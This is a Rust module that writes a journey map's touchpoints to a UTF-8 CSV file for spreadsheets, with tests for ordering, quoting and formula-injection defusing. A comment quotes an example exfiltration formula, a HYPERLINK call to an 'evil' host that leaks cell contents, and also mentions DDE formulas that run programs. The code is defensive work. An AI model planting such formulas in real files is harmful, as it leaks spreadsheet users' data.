//! The map as a spreadsheet: one row per touchpoint, in stage order then card order, with
//! every field of the card, including the ones this version does not know (the table is
//! [`table::touchpoints`], which the XLSX export writes too).
//!
//! Written for Excel and LibreOffice as they open a file by double-click: UTF-8 with a
//! byte order mark (without it Excel reads the file as the local ANSI code page and
//! garbles Cyrillic and Polish letters), CRLF between records, and fields quoted only
//! when they hold the delimiter, a quote or a line break (line breaks inside a title stay
//! inside its cell).

use super::table::{self, Cell};
use super::{Delimiter, Labels};
use crate::model::Map;

/// What Excel and LibreOffice take for the start of a UTF-8 file.
const BOM: &str = "\u{FEFF}";

pub fn render(map: &Map, labels: &Labels, delimiter: Delimiter) -> Vec<u8> {
    let table = table::touchpoints(map, labels);
    let mut out = BOM.as_bytes().to_vec();
    let mut writer = csv::WriterBuilder::new()
        .delimiter(delimiter.byte())
        .terminator(csv::Terminator::CRLF)
        .quote_style(csv::QuoteStyle::Necessary)
        .from_writer(&mut out);

    let header: Vec<String> = table.header.iter().map(|s| defuse(s)).collect();
    write(&mut writer, &header);
    for row in &table.rows {
        let record: Vec<String> = row
            .cells
            .iter()
            .map(|cell| match cell {
                Cell::Text(s) => defuse(s),
                // Digits, a sign, a dot and an exponent cannot be a formula, and "-5"
                // should stay the number -5 in the spreadsheet.
                Cell::Number { text, .. } => text.clone(),
            })
            .collect();
        write(&mut writer, &record);
    }
    writer.flush().expect("writing to memory cannot fail");
    drop(writer);
    out
}

fn write(writer: &mut csv::Writer<&mut Vec<u8>>, record: &[String]) {
    writer
        .write_record(record)
        .expect("writing to memory cannot fail");
}

/// Guards against CSV (formula) injection. Map files come from colleagues and scripts and
/// are untrusted; a spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` as a
/// formula (`=HYPERLINK("http://evil/?"&A1)` leaks data, DDE formulas can run programs),
/// and a leading tab or carriage return can hide such a start. As OWASP recommends, such
/// a cell gets a leading apostrophe, which makes the spreadsheet treat it as text; the
/// apostrophe is visible in the cell, the price of a file that is safe to open.
fn defuse(text: &str) -> String {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{text}")
    } else {
        text.to_owned()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::export::{sentiment_label, Language};
    use serde_json::Value;
    use crate::model::{sample_map, Sentiment, Stage, Touchpoint};

    fn read(bytes: &[u8], delimiter: u8) -> Vec<Vec<String>> {
        let text = std::str::from_utf8(bytes).unwrap();
        let text = text.strip_prefix(BOM).expect("starts with a BOM");
        csv::ReaderBuilder::new()
            .delimiter(delimiter)
            .has_headers(false)
            .from_reader(text.as_bytes())
            .records()
            .map(|r| r.unwrap().iter().map(str::to_owned).collect())
            .collect()
    }

    #[test]
    fn sample_map_gives_one_row_per_card_in_stage_then_card_order() {
        let map = sample_map();
        let labels = Labels::get(Language::En);
        let rows = read(&render(&map, labels, Delimiter::Comma), b',');
        assert_eq!(rows.len(), map.touchpoints.len() + 1);
        assert_eq!(
            rows[0][..19],
            [
                "Stage",
                "Stage number",
                "Order in stage",
                "Title",
                "Sentiment",
                "Touchpoint id",
                "Stage id",
                "Lane",
                "Description",
                "Channel",
                "Online or offline",
                "Owner",
                "Controlled by",
                "Term",
                "Frequency",
                "Score",
                "Pain points",
                "Moments of delight",
                "Hypotheses"
            ]
        );
        // Then the measures: each metric's value and the fields its cards give it, and the criteria.
        let metric = |name: &str| ["Metric", "Metric date", "Metric source"].map(|l| format!("{l}: {name}"));
        let periodic = |name: &str| ["Metric", "Metric period", "Metric source"].map(|l| format!("{l}: {name}"));
        let mut measures: Vec<String> = [metric("NPS"), metric("CSAT")].concat();
        measures.extend(["Metric", "Metric target", "Metric period", "Metric source"].map(|l| format!("{l}: Conversion rate (%)")));
        measures.extend([periodic("Response time (min)"), periodic("Reach")].concat());
        measures.extend(map.criteria.iter().map(|c| format!("Rating: {}", c.name)));
        assert_eq!(rows[0][19..], measures[..]);
        let checkout = rows.iter().find(|r| r[5] == "tp-checkout").unwrap();
        assert_eq!(checkout[19..22], ["-12", "2026-11-20", "post-purchase survey"]);
        let mut expected = Vec::new();
        for (n, stage) in map.stages.iter().enumerate() {
            for (k, i) in map.cards_of(&stage.id).into_iter().enumerate() {
                let t = &map.touchpoints[i];
                expected.push(vec![
                    stage.name.clone(),
                    (n + 1).to_string(),
                    (k + 1).to_string(),
                    t.title.clone(),
                    sentiment_label(labels, t.sentiment).to_owned(),
                    t.id.clone(),
                    stage.id.clone(),
                    String::new(),
                    t.description.clone(),
                    t.channel.map(|c| labels.value("channel", &c)).unwrap_or_default(),
                    t.presence.map(|c| labels.value("presence", &c)).unwrap_or_default(),
                    t.owner.clone(),
                    t.control.map(|c| labels.value("control", &c)).unwrap_or_default(),
                    t.horizon.map(|c| labels.value("horizon", &c)).unwrap_or_default(),
                    t.frequency.map(|c| labels.value("frequency", &c)).unwrap_or_default(),
                    t.score.map(|s| s.to_string()).unwrap_or_default(),
                    t.pain_points.join("\n"),
                    t.delights.join("\n"),
                    t.hypotheses.iter().map(|h| format!("{} ({})", h.text, labels.value("status", &h.status))).collect::<Vec<_>>().join("\n"),
                ]);
            }
        }
        let fixed: Vec<&[String]> = rows[1..].iter().map(|r| &r[..19]).collect();
        assert_eq!(fixed, expected.iter().map(Vec::as_slice).collect::<Vec<_>>());
    }

    #[test]
    fn bytes_are_bom_crlf_and_quoted_where_needed() {
        let mut map = Map::new("t");
        map.stages.push(Stage {
            id: "s".into(),
            name: "A; B".into(),
            extra: Default::default(),
        });
        map.touchpoints.push(Touchpoint {
            id: "t".into(),
            stage: "s".into(),
            title: "line one\nsay \"hi\", ok".into(),
            sentiment: Sentiment::Negative,
            extra: Default::default(),
            ..Default::default()
        });
        let bytes = render(&map, Labels::get(Language::En), Delimiter::Semicolon);
        let text = String::from_utf8(bytes).unwrap();
        assert_eq!(
            text,
            "\u{FEFF}Stage;Stage number;Order in stage;Title;Sentiment;Touchpoint id;Stage id;Lane;Description;\
             Channel;Online or offline;Owner;Controlled by;Term;Frequency;Score;Pain points;Moments of delight;Hypotheses\r\n\
             \"A; B\";1;1;\"line one\nsay \"\"hi\"\", ok\";Negative;t;s;;;;;;;;;;;;\r\n"
        );
    }

    #[test]
    fn formula_starts_get_an_apostrophe_and_extras_get_columns() {
        let mut map = Map::new("t");
        map.stages.push(Stage {
            id: "s".into(),
            name: "=1+1".into(),
            extra: Default::default(),
        });
        let mut extra = crate::model::Extra::new();
        extra.insert("region".into(), Value::String("@me".into()));
        extra.insert("budget".into(), serde_json::json!(-5));
        extra.insert("tags".into(), serde_json::json!(["a", "b"]));
        for (id, title, extra) in [("a", "-2", extra), ("b", "\tx", Default::default())] {
            map.touchpoints.push(Touchpoint {
                id: id.into(),
                stage: "s".into(),
                title: title.into(),
                sentiment: Sentiment::Positive,
                extra,
                ..Default::default()
            });
        }
        // A card whose stage is gone is not exported.
        map.touchpoints.push(Touchpoint {
            id: "lost".into(),
            stage: "nowhere".into(),
            title: "lost".into(),
            sentiment: Sentiment::Positive,
            extra: [("ghost".to_owned(), Value::Bool(true))].into(),
            ..Default::default()
        });
        let rows = read(
            &render(&map, Labels::get(Language::Ru), Delimiter::Comma),
            b',',
        );
        assert_eq!(rows.len(), 3);
        assert_eq!(rows[0][0], "Этап");
        assert_eq!(rows[0][19..], ["budget", "region", "tags"]);
        // The details' columns sit between the card's place and the unknown fields.
        assert_eq!(rows[0][7], "Дорожка");
        assert_eq!(
            rows[1],
            [
                "'=1+1",
                "1",
                "1",
                "'-2",
                "Позитивная",
                "a",
                "s",
                "", "", "", "", "", "", "", "", "", "", "", "",
                "-5",
                "'@me",
                r#"["a","b"]"#
            ]
        );
        assert_eq!(
            rows[2],
            [
                "'=1+1",
                "1",
                "2",
                "'\tx",
                "Позитивная",
                "b",
                "s",
                "", "", "", "", "", "", "", "", "", "", "", "",
                "",
                "",
                ""
            ]
        );
    }

    #[test]
    fn an_empty_map_is_a_header_only() {
        let rows = read(
            &render(
                &Map::new(""),
                Labels::get(Language::Pl),
                Delimiter::Semicolon,
            ),
            b';',
        );
        assert_eq!(rows.len(), 1);
        assert_eq!(rows[0][3], "Tytuł");
    }
}
